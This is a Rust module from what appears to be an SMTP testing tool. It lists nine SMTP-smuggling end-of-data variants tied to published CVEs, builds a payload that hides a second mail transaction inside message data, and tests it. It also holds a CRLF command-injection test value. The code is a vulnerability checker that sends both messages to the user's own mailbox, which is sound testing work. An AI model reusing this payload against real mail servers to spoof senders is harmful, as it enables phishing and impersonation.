//! The end-of-data variants of SMTP smuggling, and the bytes one test session sends after
//! the 354: a first message that contains the variant, then a second, "smuggled" mail
//! transaction (MAIL, RCPT, DATA, content) inside that same data, then the real end.
//!
//! ```text
//!   DATA ─▶ 354 ─▶ first message … <variant> MAIL FROM RCPT TO DATA smuggled message CRLF.CRLF
//!                                  └ a server that ends the data here runs the rest as commands
//! ```
//!
//! Only `<CRLF>.<CRLF>` ends the data ([RFC 5321 §4.1.1.4](https://www.rfc-editor.org/rfc/rfc5321#section-4.1.1.4));
//! CR and LF must not appear alone ([§2.3.8](https://www.rfc-editor.org/rfc/rfc5321#section-2.3.8)).
//! These bytes deliberately bypass dot-stuffing ([`crate::proto::data`]): sending them
//! unchanged is the test. Nothing else in smtpx writes data this way.
//!
//! Layer: front end (smuggling check), sans-IO: bytes out, no I/O.

use crate::proto::command::{Command, CommandError};

/// One end-of-data sequence that some server has taken, or might take, for the real one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Variant {
    /// A short name for `--variant` and reports.
    pub name: &'static str,
    /// The bytes sent between the first message and the smuggled commands.
    pub bytes: &'static [u8],
    /// Who is known to take it, or why it is tried.
    pub note: &'static str,
}

/// The variants of the SMTP smuggling publications (SEC Consult, December 2023) and of
/// Postfix's notes on CVE-2023-51764: bare LF, bare CR and NUL around the dot.
pub const VARIANTS: [Variant; 9] = [
    Variant {
        name: "lf-dot-lf",
        bytes: b"\n.\n",
        note: "bare LF line ends: Postfix before 3.9 by default (CVE-2023-51764), \
               Sendmail (CVE-2023-51765)",
    },
    Variant {
        name: "lf-dot-crlf",
        bytes: b"\n.\r\n",
        note: "the sequence of the SEC Consult publication: Postfix (CVE-2023-51764), \
               Sendmail (CVE-2023-51765), Exim (CVE-2023-51766)",
    },
    Variant {
        name: "crlf-dot-lf",
        bytes: b"\r\n.\n",
        note: "the dot line ends in a bare LF: servers that take LF as a line end",
    },
    Variant {
        name: "cr-dot-cr",
        bytes: b"\r.\r",
        note: "bare CR line ends: servers that take CR as a line end (reported for Cisco \
               Secure Email)",
    },
    Variant {
        name: "cr-dot-crlf",
        bytes: b"\r.\r\n",
        note: "a bare CR before the dot",
    },
    Variant {
        name: "crlf-dot-cr",
        bytes: b"\r\n.\r",
        note: "a bare CR after the dot",
    },
    Variant {
        name: "cr-dot-lf",
        bytes: b"\r.\n",
        note: "bare CR before the dot, bare LF after it",
    },
    Variant {
        name: "crlf-nul-dot-crlf",
        bytes: b"\r\n\0.\r\n",
        note: "a NUL before the dot: servers that drop NUL bytes before reading lines",
    },
    Variant {
        name: "crlf-dot-nul-crlf",
        bytes: b"\r\n.\0\r\n",
        note: "a NUL after the dot: servers that drop NUL bytes before reading lines",
    },
];

/// The variant called `name`.
pub fn by_name(name: &str) -> Option<&'static Variant> {
    VARIANTS.iter().find(|variant| variant.name == name)
}

/// The envelope of both messages: the first and the smuggled one go to the same recipient,
/// so a vulnerable server delivers both to the mailbox the user named, nowhere else.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Envelope {
    pub from: String,
    pub to: String,
}

impl Envelope {
    /// `MAIL FROM:<from>` as sent, CRLF included; refused when the address would not
    /// encode as one command line.
    pub fn mail(&self) -> Result<Vec<u8>, CommandError> {
        Command::Mail {
            from: self.from.clone(),
            params: Vec::new(),
        }
        .encode()
    }

    /// `RCPT TO:<to>` as sent, CRLF included.
    pub fn rcpt(&self) -> Result<Vec<u8>, CommandError> {
        Command::Rcpt {
            to: self.to.clone(),
            params: Vec::new(),
        }
        .encode()
    }
}

/// A header value from an address: the address itself, or the null path written out.
fn header_address(address: &str) -> &str {
    if address.is_empty() { "<>" } else { address }
}

/// Everything sent after the 354: the first message up to the variant, the variant, the
/// smuggled MAIL, RCPT and DATA, the smuggled message, and `<CRLF>.<CRLF>`. The subjects
/// name the variant, so the messages a server delivered can be told apart in the mailbox.
pub fn payload(variant: &Variant, envelope: &Envelope) -> Result<Vec<u8>, CommandError> {
    let from = header_address(&envelope.from);
    let to = header_address(&envelope.to);
    let headers = |role: &str| {
        format!(
            "From: {from}\r\nTo: {to}\r\nSubject: smtpx smuggle {name}: {role}\r\n\r\n",
            name = variant.name
        )
    };
    let mut bytes = headers("first message").into_bytes();
    bytes.extend_from_slice(
        b"This message tests where the server ends the data. It continues past the next\r\n\
          line break only if the server reads the sequence there as data, as it should.",
    );
    bytes.extend_from_slice(variant.bytes);
    bytes.extend_from_slice(&envelope.mail()?);
    bytes.extend_from_slice(&envelope.rcpt()?);
    bytes.extend_from_slice(&Command::Data.encode()?);
    bytes.extend_from_slice(headers("SMUGGLED message").as_bytes());
    bytes.extend_from_slice(
        b"If this arrived as a message of its own, the server ended the data of the first\r\n\
          message early: it is open to SMTP smuggling.\r\n.\r\n",
    );
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::proto::data::{DataProgress, DataReceiver};

    fn envelope() -> Envelope {
        Envelope {
            from: "smuggle@smtpx.test".into(),
            to: "smtpxtest@smtpx.test".into(),
        }
    }

    #[test]
    fn variant_names_are_unique_and_no_variant_is_the_real_end_of_data() {
        for (i, variant) in VARIANTS.iter().enumerate() {
            assert_eq!(by_name(variant.name), Some(variant));
            assert!(VARIANTS[..i].iter().all(|v| v.name != variant.name));
            assert_ne!(variant.bytes, b"\r\n.\r\n");
        }
        assert_eq!(by_name("crlf-dot-crlf"), None);
    }

    #[test]
    fn a_strict_receiver_reads_each_payload_as_one_message_and_a_lenient_one_as_two_for_lf_variants()
     {
        for variant in &VARIANTS {
            let bytes = payload(variant, &envelope()).expect("payload");
            assert!(bytes.ends_with(b"smuggling.\r\n.\r\n"));
            let DataProgress::Complete { consumed, message } =
                DataReceiver::new(100_000).feed(&bytes)
            else {
                panic!("{}: no end of data", variant.name);
            };
            assert_eq!(consumed, bytes.len(), "{}", variant.name);
            let body = String::from_utf8_lossy(&message.body);
            assert!(body.contains("SMUGGLED"), "{}", variant.name);

            let DataProgress::Complete { consumed, .. } =
                DataReceiver::lenient(100_000).feed(&bytes)
            else {
                panic!("{}: no end of data", variant.name);
            };
            // LF or CRLF on both sides of the dot: a server taking LF as a line end stops.
            let ends_early = ["lf-dot-lf", "lf-dot-crlf", "crlf-dot-lf"].contains(&variant.name);
            assert_eq!(consumed < bytes.len(), ends_early, "{}", variant.name);
            if ends_early {
                assert!(bytes[consumed..].starts_with(b"MAIL FROM:<smuggle@smtpx.test>\r\n"));
            }
        }
    }

    #[test]
    fn addresses_that_would_break_the_command_line_are_refused() {
        let bad = Envelope {
            from: "a@b\r\nRCPT TO:<x@y>".into(),
            to: "c@d".into(),
        };
        assert!(payload(&VARIANTS[0], &bad).is_err());
        let null = Envelope {
            from: String::new(),
            to: "c@d".into(),
        };
        let bytes = payload(&VARIANTS[0], &null).expect("null sender");
        assert!(bytes.starts_with(b"From: <>\r\n"));
        assert!(
            bytes
                .windows(b"MAIL FROM:<>\r\n".len())
                .any(|w| w == b"MAIL FROM:<>\r\n")
        );
    }
}
